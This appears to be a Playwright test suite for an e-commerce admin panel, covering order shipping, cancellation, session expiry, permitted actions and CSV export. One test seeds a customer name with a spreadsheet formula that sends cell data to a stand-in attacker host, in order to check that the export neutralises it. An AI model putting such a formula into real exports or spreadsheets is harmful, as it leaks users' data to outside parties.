import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { seriousA11yViolations } from './support/axe';
import { blockThirdParty, createUser, placeOrder, signInAsAdmin } from './support/admin';

// Each journey signs in and waits for queued notifications: more than the default 30 s on two cores.
test.describe.configure({ timeout: 90_000 });

test('orders: filter, open an order, ship it (seen as Shipped on /track-order), then mark it delivered', async ({
  page,
}) => {
  const outside = await blockThirdParty(page);
  const shopper = await createUser();
  const order = await placeOrder(shopper);
  await signInAsAdmin(page, await createUser('admin'));

  await page.getByRole('menuitem', { name: 'Orders' }).click();
  await expect(page).toHaveURL(/\/admin\/orders/);
  await page.getByPlaceholder('Order number').fill(order.order_number);
  const row = page.locator('tbody tr', { hasText: order.order_number });
  await expect(row).toBeVisible();
  expect(await seriousA11yViolations(page)).toEqual([]);

  await row.getByRole('button', { name: 'Ship' }).click();
  await expect(page.getByText(`Order ${order.order_number} shipped!`)).toBeVisible();

  // The shopper's tracking page shows the Shipped step the action added.
  const track = await page.context().newPage();
  await track.goto(`/track-order?order=${order.order_number}&contact=${encodeURIComponent(shopper.email)}`);
  await expect(
    track
      .getByRole('region', { name: `Order ${order.order_number}` })
      .getByRole('definition')
      .first(),
  ).toHaveText(/^shipped$/i);
  await expect(track.getByRole('list', { name: 'Order timeline' })).toContainText('Shipped');
  await track.close();

  // the order number's cell: the first is the row's selection checkbox (bulk actions)
  await row.getByText(order.order_number, { exact: true }).click();
  await expect(page.getByRole('heading', { name: `Order ${order.order_number}` })).toBeVisible();
  await expect(page.getByText('Asha Verma')).toBeVisible();
  await expect(page.getByRole('cell', { name: 'Shipped' })).toBeVisible();
  expect(await seriousA11yViolations(page)).toEqual([]);
  await page.getByRole('button', { name: 'In Transit' }).click();
  await expect(page.getByText(`Order ${order.order_number}: In Transit added to the timeline`)).toBeVisible();
  await expect(page.getByRole('cell', { name: 'In Transit', exact: true })).toBeVisible();
  await page.getByRole('button', { name: 'Mark Delivered' }).click();
  await expect(page.getByText(`Order ${order.order_number} marked as delivered!`)).toBeVisible();
  await expect(page.getByRole('cell', { name: 'Delivered', exact: true })).toBeVisible();
  expect(outside).toEqual([]);
});

test('cancelling an order asks first, then cancels it', async ({ page }) => {
  const order = await placeOrder(await createUser());
  await signInAsAdmin(page, await createUser('admin'));
  await page.goto('/admin/orders');
  await page.getByPlaceholder('Order number').fill(order.order_number);
  const row = page.locator('tbody tr', { hasText: order.order_number });
  await row.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('Cancel this order? Its items go back into stock.')).toBeVisible();
  await page.getByRole('button', { name: 'Confirm' }).click();
  await expect(page.getByText(`Order ${order.order_number} cancelled!`)).toBeVisible();
  await expect(row.getByText('Cancelled')).toBeVisible();
});

test('an order action the database refuses for an expired admin session signs staff out', async ({
  page,
}) => {
  const order = await placeOrder(await createUser());
  await signInAsAdmin(page, await createUser('admin'));
  // The database's answer once the sign-in is 8 hours old (private.require_admin): the JWT's
  // sign-in time is signed by Auth, so the browser's clock cannot age it; the answer is replayed.
  await page.route('**/rest/v1/rpc/admin_set_order_status', (route) =>
    route.fulfill({
      status: 403,
      contentType: 'application/json',
      body: JSON.stringify({
        code: '42501',
        message: 'Your admin session has expired. Please sign in again.',
        details: 'admin_session_expired',
        hint: null,
      }),
    }),
  );
  await page.goto('/admin/orders');
  await page.getByPlaceholder('Order number').fill(order.order_number);
  const row = page.locator('tbody tr', { hasText: order.order_number });
  await row.getByRole('button', { name: 'Cancel' }).click();
  await page.getByRole('button', { name: 'Confirm' }).click();
  await expect(page).toHaveURL(/\/admin\/login$/);
  await page.goto('/admin/');
  await expect(page).toHaveURL(/\/admin\/login$/);
});

test('the order actions offer only what the database allows: no Cancel once shipped, no Ship before an online payment', async ({
  page,
}) => {
  const shopper = await createUser();
  const cod = await placeOrder(shopper);
  const online = await placeOrder(shopper, { method: 'razorpay' });
  await signInAsAdmin(page, await createUser('admin'));
  await page.goto('/admin/orders');

  await page.getByPlaceholder('Order number').fill(cod.order_number);
  const codRow = page.locator('tbody tr', { hasText: cod.order_number });
  await expect(codRow.getByRole('button', { name: 'Cancel' })).toBeVisible();
  await codRow.getByRole('button', { name: 'Ship' }).click();
  await expect(page.getByText(`Order ${cod.order_number} shipped!`)).toBeVisible();
  await expect(codRow.getByRole('button', { name: 'Mark Delivered' })).toBeVisible();
  await expect(codRow.getByRole('button')).toHaveText(['Mark Delivered']);

  await page.getByPlaceholder('Order number').fill(online.order_number);
  const onlineRow = page.locator('tbody tr', { hasText: online.order_number });
  await expect(onlineRow.getByRole('button', { name: 'Cancel' })).toBeVisible();
  await expect(onlineRow.getByRole('button')).toHaveText(['Cancel']);
  await onlineRow.getByText(online.order_number, { exact: true }).click();
  await expect(page.getByRole('heading', { name: `Order ${online.order_number}` })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Cancel' })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Ship' })).toHaveCount(0);
});

test("the orders export neutralises a customer's formula (CSV injection)", async ({ page }) => {
  const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
  const order = await placeOrder(await createUser(), { fullName: formula });
  await signInAsAdmin(page, await createUser('admin'));
  await page.goto('/admin/orders');
  await page.getByPlaceholder('Order number').fill(order.order_number);
  await expect(page.locator('tbody tr')).toHaveCount(1);
  await expect(page.locator('tbody tr', { hasText: order.order_number })).toBeVisible();
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export' }).click();
  const csv = await readFile(await (await download).path(), 'utf8');
  const line = csv.split('\n').find((l) => l.includes(order.order_number))!;
  // jsonexport quotes the cell and doubles its quotes; the cell starts with the single quote.
  expect(line).toContain(`"'${formula.replaceAll('"', '""')}"`);
  expect(line).not.toMatch(/(^|,)"?=HYPERLINK/);
});

test('categories, promo codes, contact messages and customers open with their lists', async ({ page }) => {
  await signInAsAdmin(page, await createUser('admin'));
  for (const [item, url] of [
    ['Categories', /categories/],
    ['Promo Codes', /promo_codes/],
    ['Contact Messages', /contact_messages/],
    ['Customers', /customers/],
  ] as const) {
    await page.getByRole('menuitem', { name: item }).click();
    await expect(page).toHaveURL(url);
    await expect(page.locator('.RaList-main')).toBeVisible();
    await expect(page.locator('.MuiLinearProgress-root')).toHaveCount(0);
    expect(await seriousA11yViolations(page), item).toEqual([]);
  }
});
